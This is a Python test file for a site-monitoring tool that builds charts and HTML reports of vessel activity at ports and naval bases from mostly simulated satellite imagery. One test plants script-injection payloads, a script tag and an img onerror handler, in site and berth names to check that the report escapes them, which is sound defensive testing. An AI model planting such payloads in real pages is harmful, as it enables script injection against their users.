    assert fallback_families({"Noto Sans CJK JP", "Noto Sans CJK KR"}) == ["Noto Sans CJK KR", "Noto Sans CJK JP"]
    assert fallback_families(set()) == []


_DROID = Path("/usr/share/fonts/truetype/droid/DroidSansFallbackFull.ttf")


def test_chart_draws_a_cjk_site_name_when_a_cjk_font_is_installed() -> None:
    """Rason in hanja: every glyph drawn, none missing (CI installs fonts-droid-fallback).

    Hanja, not hangul: the package's DroidSansFallbackFull.ttf has no hangul syllables.
    """
    installed = {f.name for f in font_manager.fontManager.ttflist}
    if not fallback_families(installed):
        if not _DROID.is_file():
            pytest.skip("no CJK font on this machine (apt-get install fonts-droid-fallback)")
        font_manager.fontManager.addfont(str(_DROID))
    tl = Timeline("rason", TimelineParams(), (), (), site_name="羅先港 (Rason)")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        png = timeline_chart_png(tl)
    assert png.startswith(b"\x89PNG")
    assert not [w for w in caught if "missing from font" in str(w.message)]


def test_a_name_no_installed_font_draws_gives_way_to_the_id_in_charts() -> None:
    """A Korean site name without a font of hangul was a row of empty boxes in the chart's title, and matplotlib
    printed a warning a glyph ("Glyph 48512 (HANGUL SYLLABLE BU) missing from font(s) DejaVu Sans")."""
    from sitewatch.report.charts import drawable

    assert drawable("Гавань Дуная – Pier östlich", "x") == "Гавань Дуная – Pier östlich"  # DejaVu Sans has them
    tl = Timeline("busan-north-port", TimelineParams(), (), (), site_name="부산항 (Busan North Port)")
    hangul = drawable("부산항", "") == "부산항"  # a machine with a font of hangul draws the name itself
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        png = timeline_chart_png(tl)
        site = tiny_site("busan-north-port")
        site_map_png(dataclasses.replace(site, name="부산항", berths=(Berth("pier-1", LineString([(132.33, 42.88), (132.34, 42.88)]), "제1부두"),)))
    assert png.startswith(b"\x89PNG")
    assert not [w for w in caught if "missing from font" in str(w.message)]
    assert hangul or drawable("부산항 (Busan North Port)", "busan-north-port") == "busan-north-port"


def test_a_right_to_left_name_gives_way_to_the_id_in_charts() -> None:
    """matplotlib lays text out left to right without joining Arabic letters: an Arabic or Hebrew site or berth
    name, whose glyphs DejaVu Sans has, came out mirrored in the chart's title and the map's berth labels."""
    from sitewatch.report import charts
    from sitewatch.report.charts import drawable

    assert drawable("ميناء طرطوس", "tartus") == "tartus"
    assert drawable("נמל חיפה", "haifa") == "haifa"
    assert drawable("Pier 3 (رصيف)", "pier-3") == "pier-3"  # one right-to-left word is enough to mirror the line
    assert drawable("São Tomé – Гавань 3", "x") == "São Tomé – Гавань 3"  # left to right, whatever the script
    tl = Timeline("tartus", TimelineParams(), (), (), site_name="ميناء طرطوس")
    assert charts._timeline_heading(tl).startswith("tartus: ")
    titles: list[str] = []
    site = dataclasses.replace(tiny_site("tartus"), name="ميناء طرطوس",
                               berths=(Berth("pier-1", LineString([(132.33, 42.88), (132.34, 42.88)]), "الرصيف"),))
    figure = site_map_figure(site, [])
    titles += [t.get_text() for ax in figure.axes for t in [ax.title, *ax.texts]]
    assert any(t.startswith("tartus: berths") for t in titles) and "pier-1" in titles
    assert not any(unicodedata.bidirectional(c) in ("R", "AL") for t in titles for c in t)


def test_change_chips_name_their_image_and_say_simulated(ws: Workspace, html: str) -> None:
    section = html.split("Changes between consecutive dates", 1)[1].split("<h3>", 1)[0]
    with ws.store() as st:
        obs = {o.id: o for o in st.observations("dunai")}
    figures = re.findall(r"<figure>.*?</figure>", section, re.S)
    assert len(figures) == 2  # before and after of 2024-10-17 -> 2024-10-20
    for fig in figures:
        oid = re.search(r"observation (\S+)", fig)
        # a reader can open the picture's own file: named, and linked
        assert oid and re.search(rf'image <a href="[^"]+">{re.escape(obs[oid.group(1)].path)}</a>', fig)
    assert '<p class="sim">Simulated imagery</p>' in section


def test_a_site_named_twice_is_reported_once(ws: Workspace, tmp_path: Path) -> None:
    html = write_report(ws, ["dunai", "dunai"], tmp_path / "r.html").read_text(encoding="utf-8")
    assert html.count('id="site-dunai"') == 1


def test_timeline_chart_says_whether_its_dates_are_utc_or_local() -> None:
    from sitewatch.report.charts import _timeline_heading

    utc = Timeline("rason", TimelineParams(), (), (), site_name="Rason")
    local = Timeline("rason", TimelineParams(utc_offset_hours=9), (), (), site_name="Rason")
    assert _timeline_heading(utc) == "Rason: vessels per usable observation date (UTC dates)"
    assert _timeline_heading(local).endswith("(local dates, UTC+9)")  # a PNG copied out keeps what its dates are


def test_chart_legend_keys_sensors_seen_only_in_a_later_period(monkeypatch: pytest.MonkeyPatch) -> None:
    from sitewatch.analysis import build_timeline
    from sitewatch.report import charts
    from test_occupancy import obs, vessel

    first = [obs("2023-09-01"), obs("2023-09-05")]
    later = [obs("2024-10-01"), obs("2024-10-02", "optical", cloud=0.0)]
    tl = build_timeline("dunai", first + later, [vessel(first[0], 0)])
    assert len(tl.periods) == 2
    figures: list[Any] = []
    monkeypatch.setattr(charts, "_png", lambda fig, dpi=90, **_: figures.append(fig) or b"")
    timeline_chart_png(tl)
    legends = [ax.get_legend() for ax in figures[0].axes if ax.get_legend()]
    assert "optical look" in [t.get_text() for t in legends[0].get_texts()]  # its triangles are in period 2 only


def test_a_busy_early_period_does_not_crowd_a_later_one_out_of_the_changes_shown() -> None:
    from datetime import date, timedelta

    from sitewatch.analysis import build_timeline
    from sitewatch.report.html import MAX_CHANGES_PER_SITE, _shared_among_periods
    from test_occupancy import obs, vessel

    # 2023: a ship every other date (20 changes); October 2024: one arrival and one departure.
    early = [obs(date(2023, 8, 1) + timedelta(days=2 * i), site="rason") for i in range(21)]
    late = [obs(date(2024, 10, d), site="rason") for d in (8, 10, 13)]
    dets = [vessel(o, 0) for o in early[1::2]] + [vessel(late[1], 0)]
    tl = build_timeline("rason", early + late, dets)
    pairs = [(a, b) for a, b in zip(tl.rows, tl.rows[1:], strict=False) if a.period == b.period and (b.arrivals or b.departures)]
    assert len(pairs) == 22
    shown = _shared_among_periods(pairs, MAX_CHANGES_PER_SITE)
    assert len(shown) == MAX_CHANGES_PER_SITE
    assert [b.date for _, b in shown if b.period == 2] == [date(2024, 10, 10), date(2024, 10, 13)]  # were all left out
    first = [b.date for _, b in shown if b.period == 1]
    assert first[0] == pairs[0][1].date and first[-1] == pairs[19][1].date  # spread over the period, ends kept


def test_timeline_refuses_one_file_for_two_outputs(ws: Workspace, tmp_path: Path) -> None:
    # (Each output now takes its own suffix, .csv, .json, .png, so one name for two is refused by its suffix.)
    out = tmp_path / "t.json"
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--csv", str(out), "--json", str(out)])
    assert res.exit_code == 2 and str(out) in res.output and "name the file .csv" in res.output
    assert not out.exists()  # the JSON used to be written there, then overwritten by the CSV


def test_timeline_refuses_an_output_named_for_another_format(ws: Workspace, tmp_path: Path) -> None:
    # `--csv t.xlsx` wrote CSV text into t.xlsx, `--json t.csv` JSON into t.csv and `--chart t.jpg` (or t.pdf) PNG
    # bytes, each exit 0: files their programs refuse. Each is refused naming it, and nothing is written.
    for option, name, wanted in (("--csv", "t.xlsx", ".csv"), ("--json", "t.csv", ".json"), ("--chart", "t.jpg", ".png"),
                                 ("--chart", "t.pdf", ".png")):  # fmt: skip
        res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), option, str(tmp_path / name)])
        assert res.exit_code == 2 and f"Invalid value for '{option}'" in res.output, res.output
        assert name in res.output and f"name the file {wanted}" in res.output
        assert not (tmp_path / name).exists()
    res = CliRunner().invoke(main, ["timeline", "dunai", "-w", str(ws.root), "--csv", str(tmp_path / "T.CSV"),
                                    "--json", str(tmp_path / "t.json"), "--chart", str(tmp_path / "t.png")])  # fmt: skip
    assert res.exit_code == 0, res.output


def test_imagery_lines_date_scenes_as_the_timeline_does() -> None:
    """With --utc-offset the timeline's dates are local; the Imagery lines gave UTC dates beside them."""
    from sitewatch.report.html import _imagery_lines
    from test_occupancy import obs

    scenes = [obs("2024-10-16", hour=22), obs("2024-10-19", hour=22)]  # 07:00 the next day at UTC+9
    assert "2024-10-16 to 2024-10-19" in _imagery_lines(scenes)[0][0]
    assert "2024-10-17 to 2024-10-20" in _imagery_lines(scenes, utc_offset_hours=9)[0][0]


def test_detections_geojson_follows_rfc_7946(tmp_path: Path) -> None:
    """Oriented boxes came out wound as measured, half of them clockwise (RFC 7946 wants anticlockwise),
    and their times with '+00:00' where sitewatch's JSON writes UTC as 'Z'."""
    from datetime import UTC, datetime

    from shapely.geometry import LinearRing, Polygon, box

    from sitewatch.model import Detection, Grid, SceneRef, Site
    from sitewatch.store import Store

    with Store(tmp_path / "db.gpkg") as st:
        st.put_site(Site(id="p1", name="P1", kind="port", geometry=box(132.3, 42.8, 132.4, 42.9)))
        scene = SceneRef("local", "test", "s1", "sar", datetime(2024, 10, 17, 9, 30, 5, tzinfo=UTC), 10.0)
        obs = Observation("p1/s1", "p1", scene, Grid("EPSG:32653", (10.0, 0.0, 5e5, 0.0, -10.0, 4.7e6), 10, 10),
                          "archive/x.tif", "0" * 64, 1.0)  # fmt: skip
        st.put_observation(obs)
        clockwise = Polygon([(132.33, 42.88), (132.33, 42.881), (132.3305, 42.881), (132.3305, 42.88)])
        st.replace_detections(obs, [Detection("p1/s1#0", obs.id, "vessel", clockwise, 110.0, 15.0, 0.0, 5.0, "t", "1")])
        (feat,) = detections_to_geojson(st)["features"]
    assert LinearRing(feat["geometry"]["coordinates"][0]).is_ccw
    assert feat["properties"]["acquired"] == "2024-10-17T09:30:05Z"


def test_observation_chips_spread_over_time_keep_the_latest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """With more observations than chips, every int(k × step)-th was drawn: the latest, often the
    one an investigation turns on, was left out."""
    from dataclasses import replace
    from datetime import timedelta

    from sitewatch.report import html as report_html

    w = build(tmp_path / "w")
    with w.store() as st:
        base = next(o for o in st.observations("dunai") if o.scene.sensor == "optical" and st.detections(observation_id=o.id))
        (det,) = [d for d in st.detections(observation_id=base.id) if d.kind == "vessel"]
        for day in (21, 22, 23):
            scene = replace(base.scene, item_id=f"sim-dunai-2024-10-{day}-optical", acquired=base.scene.acquired + timedelta(days=day - 17))
            o = replace(base, id=f"dunai:sim-dunai-2024-10-{day}-optical", scene=scene)
            st.put_observation(o)
            st.replace_detections(o, [replace(det, id=f"{o.id}#0", observation_id=o.id)])
    monkeypatch.setattr(report_html, "MAX_CHIPS_PER_SITE", 3)
    html = report_html.render_report(w, ["dunai"])
    overview = html.split('<div class="chips">', 1)[1].split("</div>", 1)[0]
    shown = re.findall(r"<br>observation (\S+) · image", overview)
    assert len(shown) == 3 and shown[0].endswith("2024-10-17-optical") and shown[-1].endswith("2024-10-23-optical"), shown
    assert "2 more observation(s) with detections" in html


def test_report_escapes_names_and_ids_from_gazetteers(tmp_path: Path) -> None:
    """Site names and berth ids come from downloaded gazetteers: they must reach the page as text."""
    from dataclasses import replace

    w = build(tmp_path / "ws")
    with w.store() as st:
        site = st.get_site("dunai")
        berth = replace(site.berths[0], id="pier-1<img src=x onerror=alert(2)>")
        st.put_site(replace(site, name="Dunai <script>alert(1)</script>", berths=(berth,)))
    html = write_report(w, ["dunai"], tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script" not in html and "<img src=x" not in html
    assert "Dunai &lt;script&gt;alert(1)&lt;/script&gt;" in html and "pier-1&lt;img src=x" in html


def _sections(html: str) -> dict[str, str]:
    """Each ``<h3>`` section of the page (up to the next ``<h2>``/``<h3>``), by heading."""
    parts = re.split(r"<h3>(.*?)</h3>", html)
    return {title: re.split(r"<h[23][ >]", body, maxsplit=1)[0] for title, body in zip(parts[1::2], parts[2::2], strict=True)}


def test_every_part_showing_simulated_imagery_says_so(html: str) -> None:
    assert "<title>sitewatch report (simulated imagery)</title>" in html
    sections = _sections(html)
    for title in ("Changes between consecutive dates", "Observations with detections",
                  "Close-ups of the strongest detections", "Detections (3)"):  # fmt: skip
        assert '<p class="sim">Simulated imagery</p>' in sections[title], title
    evaluation = html.split('<h2 id="evaluation">', 1)[1].split("<table", 1)[0]
    assert "Simulated imagery: the ground truth is the simulator's own record" in evaluation
    site = html.split('<h2 id="site-dunai">', 1)[1].split("<h3>", 1)[0]
    assert '<p class="sim">Simulated imagery</p>' in site
    assert html.rstrip().endswith('<p class="sim">Simulated imagery</p></main>\n</body>\n</html>')
    assert "optical · sim (SIMULATED) · 3 m: 2 scene(s)" in sections["Imagery"]
    rows = re.findall(r"<tr><td class=\"hash\">.*?</tr>", sections["Detections (3)"])
    assert len(rows) == 3 and all(" m (simulated)</td>" in r for r in rows)


def test_a_report_mixing_real_and_simulated_sites_carries_the_simulated_banner(tmp_path: Path) -> None:
    from dataclasses import replace

    from shapely.geometry import box

    from sitewatch.model import Site

    w = build(tmp_path / "ws")
    with w.store() as st:
        st.put_site(Site(id="real", name="Real port", kind="port", geometry=box(132.3, 42.8, 132.4, 42.9)))
        o = st.observations("dunai")[0]
        st.put_observation(replace(o, id="real:x", site_id="real", scene=replace(o.scene, item_id="x", simulated=False)))
    html = write_report(w, ["real", "dunai"], tmp_path / "r.html").read_text(encoding="utf-8")
    assert '<p class="sim">Simulated imagery: the images behind this report' in html


def test_report_tables_put_each_figure_in_its_column(ws: Workspace, html: str) -> None:
    sections = _sections(html)
    with ws.store() as st:
        dets = st.detections(site_id="dunai")
        obs = {o.id: o for o in st.observations("dunai")}
    for d in dets:
        (row,) = re.findall(rf'<tr><td class="hash">{re.escape(d.id)}</td>.*?</tr>', sections["Detections (3)"])
        cells = re.findall(r"<td[^>]*>(.*?)</td>", row)
        c = d.centroid
        assert cells[2] == f"{d.length_m:.1f} × {d.width_m:.1f}" and cells[3] == f"{d.heading_deg:.0f}°"
        assert cells[7] == f"{c.x:.5f}, {c.y:.5f}"  # lon, lat, as GeoJSON and the map have them
        assert cells[9] == f"{obs[d.observation_id].scene.acquired:%Y-%m-%d %H:%M:%S} UTC"  # a date, a time and UTC, not ISO text
    timeline = re.findall(r"<tr[^>]*><td class=\"date\">(.*?)</tr>", sections["Timeline"], re.S)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", "<td>" + timeline[0])
    assert cells[0] == "2024-10-17" and cells[3:6] == ["1", "pier-1: 1", "0"]  # vessels, at berths, elsewhere
    labels = re.findall(r"<figcaption>(.*?) · \d", sections["Changes between consecutive dates"])
    assert labels == ["2024-10-17 01:00 UTC · optical 3 m", "2024-10-20 01:00 UTC · optical 3 m"]  # finest pixels
    assert "no more" not in html and "more observation(s)" not in html and "more change(s)" not in html
    assert "at least 50.0% of the site with data" in sections["Observation periods"]


def test_close_ups_are_of_the_highest_scores(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from sitewatch.report import html as report_html

    monkeypatch.setattr(report_html, "MAX_CLOSE_UPS_PER_SITE", 2)
    html = report_html.render_report(build(tmp_path / "ws"), ["dunai"])
    shown = re.findall(r'alt="Close-up of detection (\S+) ', html)
    assert shown == ["dunai:sim-dunai-2024-10-17-optical#0", "dunai:sim-dunai-2024-10-17-sar#0"]  # 0.95, not the 0.8 crane


def test_imagery_lines_count_scenes_and_give_the_median_revisit() -> None:
    from sitewatch.report.html import _imagery_lines
    from test_occupancy import obs

    scenes = [obs("2024-10-01"), obs("2024-10-02"), obs("2024-10-02", hour=13), obs("2024-10-03"), obs("2024-10-10")]
    (line,), _ = _imagery_lines(scenes)
    assert "5 scene(s), 2024-10-01 to 2024-10-10, median 1 day(s) between dates" in line  # gaps 1, 1, 7


def test_change_text_names_only_the_equipment_that_changed() -> None:
    from dataclasses import replace

    from sitewatch.analysis import build_timeline
    from sitewatch.report.html import _equipment_change_text
    from test_occupancy import obs

    tl = build_timeline("dunai", [obs("2024-10-01"), obs("2024-10-02")], [])
    a = replace(tl.rows[0], others={"crane": 1, "truck": 2})
    b = replace(tl.rows[1], others={"truck": 2})
    assert _equipment_change_text(a, b) == "crane 1 → 0; fine-resolution looks compared"


def test_class_candidates_list_the_three_likeliest(ws: Workspace) -> None:
    from dataclasses import replace

    from sitewatch.model import ClassCandidate
    from sitewatch.report.html import _candidates_text

    with ws.store() as st:
        d = st.detections(site_id="dunai")[0]
    four = tuple(ClassCandidate(n, p) for n, p in (("A", 0.5), ("B", 0.2), ("C", 0.2), ("D", 0.1)))
    assert _candidates_text(replace(d, class_candidates=four)) == "A 50% · B 20% · C 20%"


def test_report_lists_the_latest_runs(tmp_path: Path) -> None:
    w = build(tmp_path / "ws")
    with w.store() as st:
        for k in range(45):
            st.record_run(f"stage{k}", "dunai", {}, {})
    html = write_report(w, ["dunai"], tmp_path / "r.html").read_text(encoding="utf-8")
    provenance = html.split('<h2 id="provenance">', 1)[1]
    assert "<td>stage44</td>" in provenance and "<td>stage0</td>" not in provenance


def test_report_shows_a_runs_parameters_as_written(tmp_path: Path) -> None:
    """The runs table keeps JSON's escapes: a folder "démo ws" or a Cyrillic file name was shown as
    "d\\u00e9mo ws" in the report's provenance."""
    w = build(tmp_path / "ws")
    with w.store() as st:
        st.record_run("ingest", "dunai", {"paths": ["démo ws/снимки"]}, {"note": "東京"})
    html = write_report(w, ["dunai"], tmp_path / "r.html").read_text(encoding="utf-8")
    provenance = html.split('<h2 id="provenance">', 1)[1]
    assert "démo ws/снимки" in provenance and "東京" in provenance and "\\u" not in provenance


def test_report_says_a_site_is_unresolved(tmp_path: Path) -> None:
    from dataclasses import replace

    w = build(tmp_path / "ws")
    assert "unresolved place" not in write_report(w, ["dunai"], tmp_path / "r.html").read_text(encoding="utf-8")
    with w.store() as st:
        st.put_site(replace(st.get_site("dunai"), resolved=False))
    assert "unresolved place" in write_report(w, ["dunai"], tmp_path / "r.html").read_text(encoding="utf-8")


def test_a_departure_after_hidden_dates_is_shown_from_the_date_the_vessel_was_last_seen(tmp_path: Path) -> None:
    ws = build(tmp_path / "ws", hidden_days=(18, 19))
    with ws.store() as st:
        tl = load_timeline(st, "dunai")
    assert [(r.date.day, r.departures, r.hidden_berths) for r in tl.rows] == [
        (17, 0, ()), (18, 0, ("pier-1",)), (19, 0, ("pier-1",)), (20, 1, ())
    ]
    html = write_report(ws, None, tmp_path / "r.html").read_text(encoding="utf-8")
    section = html.split("Changes between consecutive dates", 1)[1].split("<h3>", 1)[0]
    heads = re.findall(r"<p><strong>(.*?)</strong></p>", section)
    departure = [h for h in heads if "departure" in h]
    assert departure == [  # the crane's change between the same two 3 m looks shares the pair
        "2024-10-17 → 2024-10-20: vessels 1 → 0; 1 departure (pier-1); last seen 17 Oct; berth hidden 18–19 Oct; "
        "crane 1 → 0; fine-resolution looks compared"
    ]
    pair = section.split(departure[0], 1)[1].split('<div class="pair"', 1)[1].split("</div>", 1)[0]
    shown = re.findall(r"observation (\S+) · image", pair)
    # Before: the image that saw the vessel on 17 Oct, not the 19 Oct look that could not see the berth.
    assert shown == ["dunai:sim-dunai-2024-10-17-optical", "dunai:sim-dunai-2024-10-20-optical"]
    assert "2024-10-19 → 2024-10-20" not in section


def test_a_departure_without_hidden_dates_keeps_the_previous_date_as_before(ws: Workspace, html: str) -> None:
    section = html.split("Changes between consecutive dates", 1)[1].split("<h3>", 1)[0]
    assert re.findall(r"<p><strong>(.*?)</strong></p>", section) == [
        "2024-10-17 → 2024-10-20: vessels 1 → 0; 1 departure (pier-1); crane 1 → 0; fine-resolution looks compared"
    ]
    assert "last seen" not in html


def test_last_seen_text_gives_the_hidden_dates_first_to_last() -> None:
    from datetime import date

    from sitewatch.report.html import _last_seen_text

    d = date(2024, 10, 17)
    assert _last_seen_text(d, [date(2024, 10, 18)]) == "last seen 17 Oct; berth hidden 18 Oct"
    assert _last_seen_text(d, [date(2024, 10, 19), date(2024, 10, 18)]) == "last seen 17 Oct; berth hidden 18–19 Oct"
    assert _last_seen_text(d, [date(2024, 10, 30), date(2024, 11, 1), date(2024, 11, 2)]) == (
        "last seen 17 Oct; berth hidden 30 Oct–2 Nov (3 dates)"
    )
    assert _last_seen_text(date(2024, 12, 30), [date(2024, 12, 31), date(2025, 1, 2)]) == (
        "last seen 30 Dec; berth hidden 31 Dec 2024–2 Jan 2025"
    )
    assert _last_seen_text(d, []) == "last seen 17 Oct"  # the hidden dates lie before --from


def test_an_arrival_beside_a_departure_after_hidden_dates_keeps_its_own_pair(tmp_path: Path) -> None:
    from _report_world import _ship, _wgs
    from sitewatch.model import Detection

    ws = build(tmp_path / "ws", hidden_days=(18, 19))
    with ws.store() as st:  # on 20 Oct a small vessel off the berths, seen by radar
        (o,) = [x for x in st.observations("dunai") if x.id.endswith("10-20-sar")]
        st.replace_detections(o, [Detection(f"{o.id}#9", o.id, "vessel", _wgs(_ship(0, -400, 60, 10)), 60.0, 10.0, 90.0,
                                            0.9, "sar-test", "0.1")])  # fmt: skip
    html = write_report(ws, None, tmp_path / "r.html").read_text(encoding="utf-8")
    section = html.split("Changes between consecutive dates", 1)[1].split("<h3>", 1)[0]
    assert re.findall(r"<p><strong>(.*?)</strong></p>", section) == [
        "2024-10-17 → 2024-10-20: vessels 1 → 1; 1 departure (pier-1); last seen 17 Oct; berth hidden 18–19 Oct; "
        "crane 1 → 0; fine-resolution looks compared",
        "2024-10-19 → 2024-10-20: vessels 0 → 1; 1 arrival (-)",
    ]
    assert re.findall(r"observation (\S+) · image", section)[::2] == [
        "dunai:sim-dunai-2024-10-17-optical", "dunai:sim-dunai-2024-10-19-sar"
    ]


def test_timeline_and_detection_tables_link_each_observation_to_its_image(ws: Workspace, html: str) -> None:
    # The timeline chart and the map pointed to tables that gave observation ids alone: a colleague holding the
    # report (without sitewatch to run `show`) could not open the image a date or a detection rests on.
    out_dir = ws.root / "out"
    sections = _sections(html)
    with ws.store() as st:
        obs = {o.id: o for o in st.observations("dunai")}
        dets = st.detections(site_id="dunai")
    links = {oid: href for href, oid in re.findall(r'<a href="([^"]+)">([^<]+)</a>', sections["Timeline"])}
    rows = re.findall(r'<td class="ids">(.*?)</td>', sections["Timeline"])
    assert links and rows and all("<a href=" in r for r in rows)
    for oid, href in links.items():
        assert href == os.path.relpath(ws.root / obs[oid].path, out_dir) and (out_dir / href).is_file()
    detections = sections[f"Detections ({len(dets)})"]
    for d in dets:
        href = os.path.relpath(ws.root / obs[d.observation_id].path, out_dir)
        assert f'<a href="{href}">{d.observation_id}</a>' in detections
    assert html.count("<figcaption>The site, its berths and every detection") == len(re.findall(r'<h2 id="site-', html))
    assert "the observations behind each date are listed in the timeline table below, each linked to its image" in html


def test_report_map_outlines_keep_three_to_one_against_the_white_map() -> None:
    """A yellow crane's outline alone is 1.5:1 on the white map (WCAG 1.4.11 asks 3:1 of graphics):
    each outline is drawn on a dark casing, so a pixel beside the colour stands out from the white."""
    import io

    import numpy as np
    from PIL import Image
    from shapely.geometry import box

    from _a11y import contrast_ratio
    from sitewatch.model import Detection, Site
    from sitewatch.report.charts import site_map_png

    site = Site("dunai", "Dunai", "naval_base", box(132.32, 42.865, 132.36, 42.895))
    crane = Detection("o#1", "o", "crane", box(132.335, 42.875, 132.345, 42.885), 800.0, 800.0, 0.0, 0.9, "t", "1")
    rgb = np.asarray(Image.open(io.BytesIO(site_map_png(site, [crane]))).convert("RGB")).astype(int)
    r, g, b = rgb[..., 0], rgb[..., 1], rgb[..., 2]
    yellow = (r > 150) & (g > 110) & (b < 90) & (r - b > 120)  # #ffcc00, however blended
    assert yellow.sum() >= 40
    dark = np.zeros(yellow.shape, bool)  # 3:1 or more against the white ground
    for y, x in zip(*np.nonzero((rgb < 200).any(axis=-1)), strict=True):
        dark[y, x] = contrast_ratio("#{:02x}{:02x}{:02x}".format(*rgb[y, x]), "#ffffff") >= 3
    beside = np.zeros_like(dark)  # a dark pixel within two pixels
    for dy in range(-2, 3):
        for dx in range(-2, 3):
            beside |= np.roll(dark, (dy, dx), axis=(0, 1))
    assert (beside & yellow).sum() >= 0.9 * yellow.sum()
